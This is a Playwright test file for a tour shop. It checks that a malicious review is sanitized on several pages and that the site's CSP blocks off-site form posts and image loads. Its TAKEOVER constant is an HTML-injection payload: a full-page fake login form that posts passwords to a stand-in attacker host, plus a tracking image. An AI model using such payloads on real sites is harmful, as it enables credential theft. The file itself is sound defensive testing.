import type { Locator, Page, Request } from '@playwright/test';
import { OPEN_STREET_MAP_ORIGIN } from '@tours/contract/constants';
import { DEMO } from '../support/demo-data';
import { expect, test } from '../support/fixtures';

/** A review written to take over the page: covers the page, restyles the shop, posts the password away, loads a tracker. */
const TAKEOVER =
  '<div style="position:fixed;inset:0;background:#fff;z-index:9999"><form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form></div><style>body{outline:9px solid red}</style><img src="https://evil.example/t.png">';

interface TakeoverSigns {
  /** Fixed elements covering half the window or more. */
  covering: string[];
  /** The fixed element (if any) under the centre of the window. */
  atCentre: string | null;
  /** Forms that post to another origin. */
  offsiteForms: string[];
  passwordInputs: number;
  /** The outline style of <body>, which the review's <style> would turn to solid red. */
  bodyOutline: string;
}

/** What a takeover leaves behind, read from the live page. */
function takeoverSigns(page: Page): Promise<TakeoverSigns> {
  return page.evaluate(() => {
    const describe = (element: Element) => `${element.tagName.toLowerCase()} in ${element.parentElement?.tagName.toLowerCase() ?? '-'}`;
    const isFixed = (element: Element) => getComputedStyle(element).position === 'fixed';
    const windowArea = window.innerWidth * window.innerHeight;
    const covering = [...document.querySelectorAll('body *')].filter((element) => {
      const box = element.getBoundingClientRect();
      return isFixed(element) && box.width * box.height >= windowArea / 2;
    });
    let centre = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);
    while (centre && !isFixed(centre)) centre = centre.parentElement;
    return {
      covering: covering.map(describe),
      atCentre: centre ? describe(centre) : null,
      offsiteForms: [...document.forms].map((form) => form.action).filter((action) => new URL(action).origin !== window.location.origin),
      passwordInputs: document.querySelectorAll('input[type="password"]').length,
      bodyOutline: getComputedStyle(document.body).outlineStyle,
    };
  });
}

async function expectNoTakeover(page: Page, review: Locator): Promise<void> {
  await expect(review).toBeVisible();
  // The avatar is the shop's own picture; the review's own would come from evil.example.
  await expect(review.locator('form, input, button, style, [style*="position"], img[src*="evil.example"]')).toHaveCount(0);
  expect(await takeoverSigns(page)).toEqual({ covering: [], atCentre: null, offsiteForms: [], passwordInputs: 0, bodyOutline: 'none' });
}

interface OffsiteRequests {
  /** Every http(s) address outside the shop that the page reached for. */
  attempted: () => string[];
  /** Those less the ones the CSP refused before they left the browser (Chromium reports them failed for "csp"). */
  left: () => string[];
}

/** The one page another origin the shop itself embeds: the meeting point's keyless map (its own frame, below the fold). */
const OWN_MAP_EMBED = `${OPEN_STREET_MAP_ORIGIN}/export/embed.html`;

function watchOffsiteRequests(page: Page, shopOrigin: string): OffsiteRequests {
  const attempted: Request[] = [];
  const refused = new Set<Request>();
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.href.startsWith(OWN_MAP_EMBED) && request.frame() !== page.mainFrame()) return;
    if (url.protocol.startsWith('http') && url.origin !== shopOrigin) attempted.push(request);
  });
  page.on('requestfailed', (request) => {
    if (/csp/i.test(request.failure()?.errorText ?? '')) refused.add(request);
  });
  return {
    attempted: () => attempted.map((request) => request.url()),
    left: () => attempted.filter((request) => !refused.has(request)).map((request) => request.url()),
  };
}

test('a review written to take over the page shows as harmless text on the tour, the guide profile and My Review', async ({
  page,
  shop,
  logIn,
  baseURL,
}) => {
  const token = await logIn(DEMO.email, DEMO.password);
  const completed = (await shop.data('trade.order.page', { pageNo: 1, status: 30, commentStatus: false }, token)).page.list[0];
  const item = completed?.items[0];
  if (!completed || !item) throw new Error('the demo customer has a completed order without a review in the seed');
  await shop.data('member.product.comment.add', [{ orderId: completed.id, orderItemId: item.id, content: TAKEOVER }], token);
  // The order list may leave the tour out of its items; the order detail always names it.
  const spuId = (await shop.data('trade.order.get-detail', { id: completed.id }, token)).items[0]?.spuId ?? 0;
  const [posted] = (await shop.data('member.product.comment.page', { spuId, pageNo: 1, pageSize: 10 })).list;
  expect(posted?.cotent).toBe(TAKEOVER);
  const nickname = posted?.userNickname ?? '';

  const offsite = watchOffsiteRequests(page, new URL(baseURL ?? '').origin);

  await page.goto(`/productInfo/${spuId}`);
  await expectNoTakeover(page, page.getByRole('region', { name: 'Reviews' }).getByRole('article', { name: nickname }).first());

  await page.goto(`/guide?id=${completed.merchantId}`);
  await expectNoTakeover(
    page,
    page.getByRole('region', { name: 'Saying about my guide' }).getByRole('article', { name: nickname }).first(),
  );

  await page.goto('/personalCenter/4');
  await expectNoTakeover(page, page.getByRole('article', { name: item.spuName }));

  // The sanitizer drops the tracking picture, so there is nothing for the CSP to refuse.
  expect(offsite.attempted()).toEqual([]);
});

test('should a takeover reach the page, its picture and its form still cannot leave the shop (CSP)', async ({ page, baseURL }) => {
  const offsite = watchOffsiteRequests(page, new URL(baseURL ?? '').origin);
  await page.goto('/');
  await expect(page.getByRole('contentinfo')).toBeVisible();
  // As if the sanitizer were gone: the raw review straight into the page, its CSP refusals recorded.
  await page.evaluate((html) => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', (event) => refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const review = document.createElement('div');
    review.innerHTML = html;
    document.body.append(review);
  }, TAKEOVER);
  const refusals = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused.toSorted());

  // The checks of the first test see this takeover, so their passing there means something.
  expect(await takeoverSigns(page)).toEqual({
    covering: ['div in div'],
    atCentre: 'div in div',
    offsiteForms: ['https://evil.example/steal'],
    passwordInputs: 1,
    bodyOutline: 'solid',
  });

  const password = page.locator('input[type="password"]');
  await password.fill('hunter2');
  // Submitted from script: a click would wait for a navigation that the CSP never lets start.
  await page.locator('form', { has: password }).evaluate((form: HTMLFormElement) => form.requestSubmit());
  await expect.poll(refusals).toEqual(['form-action https://evil.example/steal', 'img-src https://evil.example/t.png']);
  expect(new URL(page.url()).origin).toBe(new URL(baseURL ?? '').origin);
  expect(offsite.attempted()).toEqual(['https://evil.example/t.png']);
  await expect.poll(offsite.left).toEqual([]);
});
